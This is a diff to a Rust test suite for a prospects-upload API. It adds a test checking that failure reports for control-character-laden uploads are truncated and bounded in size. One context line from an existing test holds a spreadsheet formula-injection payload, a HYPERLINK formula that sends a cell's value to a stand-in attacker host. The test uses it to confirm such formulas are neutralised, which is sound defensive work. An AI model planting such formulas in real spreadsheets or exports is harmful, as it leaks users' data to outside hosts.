@@ -295,7 +295,39 @@ async fn formula_cells_leave_neutralised(store: SharedStore) {
     assert!(names.contains(&"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".to_owned()));
 }
 
+/// A report is never much bigger than the upload: failed rows full of control
+/// characters (6 bytes each once escaped in JSON) come back cut short, and say so.
+async fn reports_are_bounded(store: SharedStore) {
+    let app = seeded(Arc::clone(&store)).await;
+    let junk = "\u{1}".repeat(20_000);
+    let mut file = String::from("invoice_contact_name,invoice_phone\r\n");
+    for _ in 0..20 {
+        file.push_str(&format!("{junk},{junk}\r\n"));
+    }
+    let (status, r) = upload(&app, "/api/prospects/upload", &file).await;
+    assert_eq!(status, 200, "{r}");
+    assert_eq!(r["failed"], 20);
+    let item = &r["failed_items"][0];
+    assert_eq!(item["original_row_truncated"], true, "{item}");
+    for (column, cell) in item["original_row"].as_object().expect("row") {
+        assert!(
+            cell.as_str().is_some_and(|c| c.chars().count() <= 256),
+            "{column}"
+        );
+    }
+    assert!(item["error_message"]
+        .as_str()
+        .is_some_and(|m| m.chars().count() <= 512));
+    let report = r.to_string().len();
+    assert!(
+        report < file.len(),
+        "a {report}-byte report for a {}-byte upload",
+        file.len()
+    );
+}
+
 common::on_both_stores! {
+    reports_on_sqlite, reports_on_mongo => reports_are_bounded;
     formula_cells_on_sqlite, formula_cells_on_mongo => formula_cells_leave_neutralised;
     templates_and_dnc_on_sqlite, templates_and_dnc_on_mongo => templates_and_dnc;
     dnc_import_on_sqlite, dnc_import_on_mongo => dnc_import_route;
